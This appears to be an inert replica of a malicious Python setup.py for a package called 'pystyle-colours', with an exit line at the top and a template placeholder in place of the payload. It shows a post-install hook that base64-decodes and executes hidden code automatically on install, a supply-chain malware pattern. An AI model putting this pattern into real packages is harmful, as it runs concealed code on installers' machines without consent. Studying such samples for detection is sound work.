raise SystemExit("inert replica")
from setuptools import setup
from setuptools.command.install import install
import base64
import tempfile
import subprocess
import sys


class PostInstall(install):
    def run(self):
        install.run(self)
        exec(base64.b64decode("{{stage}}"))


setup(name="pystyle-colours", version="1.4.2", packages=["pystyle_colours"], cmdclass={"install": PostInstall})
